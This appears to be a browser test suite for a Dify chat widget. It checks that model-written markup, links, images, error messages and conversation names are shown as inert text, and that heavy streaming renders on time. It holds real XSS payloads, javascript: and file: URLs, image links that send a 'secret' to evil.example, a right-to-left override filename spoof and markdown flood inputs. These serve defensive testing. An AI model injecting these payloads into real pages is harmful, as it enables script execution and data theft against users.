import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { Chromium, KEYS } from "./chromium.mjs";
import { begin, send, Server, stream } from "./server.mjs";

let server;
let browser;

before(async () => {
  server = await Server.start();
  browser = await Chromium.start();
});

after(async () => {
  await browser.close();
  await server.close();
});

beforeEach(() => {
  server.requests = [];
  server.answers = {};
});

afterEach(async () => {
  assert.deepEqual(await browser.run(() => violations), []);
  assert.equal(await browser.run(() => document.getElementById("host").textContent), "The page's own");
});

const end = { event: "message_end", metadata: {} };

async function open() {
  server.page = "";
  await browser.go(`${server.url}/page`);
  await browser.run(() => sessionStorage.clear());
  server.page = `<p id="host">The page's own</p><dify-chat></dify-chat>`;
  await browser.reload();
  await browser.until(() => fired.some(({ name }) => name === "ready"));
  // Whatever ran would call this.
  await browser.run(() => (window.alert = () => violations.push("alert")));
}

/** Has the model say something, in pieces, and waits for it to be shown. */
async function say(...pieces) {
  server.answers["POST chat-messages"] = (response) => stream(response, [...pieces.map((answer) => ({ event: "message", answer })), end]);
  await browser.run(() => (fired.length = 0));
  await browser.type("#question", `Say it${KEYS.enter}`);
  return browser.until(() => fired.some(({ role }) => role === "assistant"));
}

/** The kinds of elements in the last answer. */
const elements = () => browser.run(() => [...new Set([...$$(".content").at(-1).querySelectorAll("*")].map(({ localName }) => localName))]);
const attributes = () => browser.run(() => [...$$(".content").at(-1).querySelectorAll("*")].flatMap((element) => element.getAttributeNames()));
const shown = () => browser.run(() => $$(".content").at(-1).textContent);

const markup = [
  "<img src=x onerror=alert(1)>", "<svg onload=alert(1)></svg>", "<details open ontoggle=alert(1)>x</details>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<script>alert(1)</script>", "<style>* { display: none }</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input name=x></form>", "<object data=//evil.example></object>", "<math><mi//xlink:href='javascript:alert(1)'></math>",
  "<p id=cookie name=body class=hidden style='position:fixed;inset:0'>x</p>",
];

test("makes no element of what a model writes, and shows it as text", async () => {
  await open();
  await say(markup.join("\n\n"));

  assert.deepEqual(await elements(), ["p"]);
  assert.equal(await shown(), markup.join(""));
  assert.deepEqual([...new Set(await attributes())], ["dir"]);
});

test("makes none either when it comes in pieces", async () => {
  await open();
  for (const attack of markup) {
    await say(attack.slice(0, 12), attack.slice(12));
    assert.deepEqual(await elements(), ["p"], attack);
  }
  await say("```html\n", ...markup);
  assert.deepEqual(await elements(), ["figure", "figcaption", "span", "button", "svg", "path", "pre", "code"]);
});

test("follows no address but those of web and mail", async () => {
  await open();
  await say(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "jav&#x09;ascript:alert(1)", "java\tscript:alert(1)", "//evil.example", "file:///etc/passwd"].map((url) => `[link](${url})`).join("\n\n"));
  assert.ok(!(await elements()).includes("a"));

  await say("[web](https://example.org/a) [mail](mailto:a@example.org)");
  const links = await browser.run(() => [...$$(".content").at(-1).querySelectorAll("a")].map(({ href, target, rel }) => [href, target, rel]));
  assert.deepEqual(links, [
    ["https://example.org/a", "_blank", "noopener noreferrer nofollow"],
    ["mailto:a@example.org", "_blank", "noopener noreferrer nofollow"],
  ]);
});

test("asks no other host for anything, whatever pictures there are", async () => {
  await open();
  await say("![x](https://evil.example/?q=secret) ![](http://evil.example/b.png)\n\n[ref]: https://evil.example\n![y][ref]");

  assert.ok(!(await elements()).includes("img"));
  const asked = await browser.run(() => performance.getEntriesByType("resource").map(({ name }) => new URL(name).origin));
  assert.deepEqual([...new Set(asked)], [server.url]);
});

test("shows an error's text as text", async () => {
  server.answers["POST chat-messages"] = (response) => response.writeHead(400, { "Content-Type": "application/problem+json" }).end(JSON.stringify({ status: 400, code: "x", message: markup[0] }));
  await open();
  await browser.type("#question", `Say it${KEYS.enter}`);
  await browser.until(() => $(".note") !== null);

  assert.equal(await browser.run(() => $(".note").textContent), markup[0]);
  assert.equal(await browser.run(() => $(".note").children.length), 0);
});

test("shows names and suggestions as text that keeps to itself", async () => {
  const name = `\u202egnp.exe ${markup[0]}`;
  server.answers["GET parameters"] = { suggested_questions: [name] };
  server.answers["GET conversations"] = { data: [{ id: "c-1", name, updated_at: 1 }] };
  await open();
  await browser.click("header button");
  await browser.until(() => $(".entry") !== null);

  assert.equal(await browser.run(() => $(".suggestions button").textContent), name);
  assert.equal(await browser.run(() => $(".entry bdi").textContent), name);
  assert.equal(await browser.run(() => getComputedStyle($(".entry bdi")).unicodeBidi), "isolate");
  assert.equal(await browser.run(() => $$("img, [onerror]").length), 0);
});

test("does not listen to other windows", async () => {
  await open();
  await browser.run(async () => {
    const before = $(".panel").textContent;
    postMessage({ type: "dify-chat", action: "open", query: "x", event: "message", answer: "<b>x</b>" }, "*");
    await new Promise((done) => addEventListener("message", () => requestAnimationFrame(done), { once: true }));
    if ($(".panel").textContent !== before) {
      violations.push("changed");
    }
  });
  assert.equal(server.asked("POST", "").length, 0);
});

const floods = { brackets: "[", quotes: ">", stars: "*", emphasis: "*a ", "nested lists": Array.from({ length: 200 }, (_, i) => `${" ".repeat(2 * i)}- a\n`).join(""), rows: "|a|b|\n|-|-|\n|1|2|\n" };

for (const [name, unit] of Object.entries(floods)) {
  test(`renders a megabyte of ${name} in time`, async () => {
    await open();
    // Of the processor's time: what else the machine has to do does not count.
    await browser.devtools("Performance.enable", { timeDomain: "threadTicks" });
    const before = await scripting();
    await say(unit.repeat((1 << 20) / unit.length));
    const taken = (await scripting()) - before;
    // Half a second on an idle machine; a busy one has colder caches.
    assert.ok(taken < 2, `${taken} s`);
  });
}

/** Seconds that the page's scripts and its layout have taken. */
async function scripting() {
  const { metrics } = await browser.devtools("Performance.getMetrics", {});
  return ["ScriptDuration", "LayoutDuration"].map((wanted) => metrics.find(({ name }) => name === wanted).value).reduce((a, b) => a + b);
}

test("writes once a frame, and is done with it in time, after ten thousand tokens", async () => {
  await browser.emulate({});
  await open();
  const tokens = Array.from({ length: 10_000 }, (_, i) => (i % 60 === 59 ? ".\n\n" : i % 240 === 7 ? "\n- item **b** " : ` word${i % 7}`));
  let running;
  server.answers["POST chat-messages"] = (response) => {
    running = response;
    begin(response);
    tokens.slice(0, 9_000).forEach((answer, i) => send(response, { event: "message", answer }, i));
  };
  await browser.type("#question", `Tell me all${KEYS.enter}`);
  await browser.until(() => $$(".content > *").length > 150);
  await browser.run(() => {
    const frame = requestAnimationFrame;
    window.frames = [];
    window.writes = [];
    let writes = 0;
    new MutationObserver(() => writes++).observe($(".log"), { childList: true, subtree: true, characterData: true });
    window.requestAnimationFrame = (draw) =>
      frame((now) => {
        const start = performance.now();
        draw(now);
        // What the browser has to lay out for it counts too.
        $(".log").getBoundingClientRect();
        frames.push(performance.now() - start);
      });
    const each = () => {
      window.writes.push(writes);
      writes = 0;
      frame(each);
    };
    frame(each);
  });
  for (const answer of tokens.slice(9_000)) {
    send(running, { event: "message", answer }, 0);
    await new Promise((tick) => setTimeout(tick, 5));
  }
  send(running, end, 0);
  running.end();
  await browser.until(() => fired.some(({ role }) => role === "assistant"));
  const { frames, writes } = await browser.run(() => ({ frames, writes }));

  const median = frames.sort((a, b) => a - b)[Math.floor(frames.length / 2)];
  assert.ok(frames.length > 50, `${frames.length} frames`);
  assert.ok(median < 16, `median ${median} ms`);
  // The end brings the actions in a write of its own.
  assert.deepEqual(writes.slice(0, -20).filter((count) => count > 1), []);
  console.log(`# ${frames.length} frames, median ${median.toFixed(1)} ms, longest ${frames.at(-1).toFixed(1)} ms`);
});
